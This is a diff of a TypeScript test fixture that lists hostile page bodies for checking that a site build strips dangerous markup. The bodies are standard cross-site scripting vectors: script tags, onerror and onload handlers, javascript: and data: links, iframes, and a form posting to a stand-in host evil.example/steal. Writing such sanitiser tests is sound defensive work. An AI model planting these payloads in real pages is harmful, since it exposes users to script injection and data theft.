@@ -37,19 +37,19 @@ export const sharedWord = 'Quillacollo';
 
 /**
  * Bodies that try to run script or load something from elsewhere, each added to the Spanish-first
- * member as a learning of its own (`aprendizajes/hostil-<n>/`). `absent`: what no built page may
- * hold; `shown`: text the copy shows instead.
+ * member as a learning of its own (`aprendizajes/hostil-<n>/`). `absent`: what the copy's body may not
+ * hold as markup; `shown`: text the copy shows instead.
  */
 export const hostileBodies: { name: string; body: string; absent: string[]; shown?: string }[] = [
-	{ name: 'a script element', body: 'Antes <script>window.__pwned="script"</script> después.', absent: ['window.__pwned="script"', '<script>window'] },
+	{ name: 'a script element', body: 'Antes <script>window.__pwned="script"</script> después.', absent: ['<script'] },
 	{ name: 'an event attribute', body: 'Una foto <img src="x" onerror="window.__pwned=\'onerror\'">.', absent: ['onerror'] },
 	{ name: 'a javascript: link', body: '[Haz clic](javascript:window.__pwned="link") aquí.', absent: ['javascript:'], shown: 'Haz clic' },
 	{ name: 'a raw iframe', body: '<iframe src="https://evil.example/frame"></iframe>\n\nTexto.', absent: ['<iframe', 'evil.example'] },
 	{ name: 'an image from elsewhere', body: '![Un píxel de rastreo](https://tracker.example/pixel.gif)', absent: ['tracker.example', 'pixel.gif'], shown: 'Un píxel de rastreo' },
 	{ name: 'data: URLs', body: '[Abrir](data:text/html;base64,PHNjcmlwdD4=) ![Logo](data:image/png;base64,iVBORw0KGgo=)', absent: ['data:text', 'data:image'], shown: 'Abrir' },
 	{ name: 'style and object', body: '<style>body{display:none}</style>\n\n<object data="https://evil.example/x.swf"></object>', absent: ['<style>body', '<object'] },
-	{ name: 'an SVG with a script', body: '<svg onload="window.__pwned=\'svg\'"><script>window.__pwned="svg"</script></svg>', absent: ['<svg', 'onload'] },
-	{ name: 'a form posting elsewhere', body: '<form action="https://evil.example/steal"><input name="x"><button>Enviar</button></form>', absent: ['<form', 'steal'] },
+	{ name: 'an SVG with a script', body: '<svg onload="window.__pwned=\'svg\'"><script>window.__pwned="svg"</script></svg>', absent: ['<svg', 'onload', '<script'] },
+	{ name: 'a form posting elsewhere', body: '<form action="https://evil.example/steal"><input name="x"><button>Enviar</button></form>', absent: ['<form', 'steal', '<input', '<button'] },
 	{ name: 'a link that breaks its attribute', body: '[x](https://ok.example/"onmouseover="window.__pwned=1)', absent: ['"onmouseover'] },
 ];
 /** A title and a summary that are HTML: shown as text. */
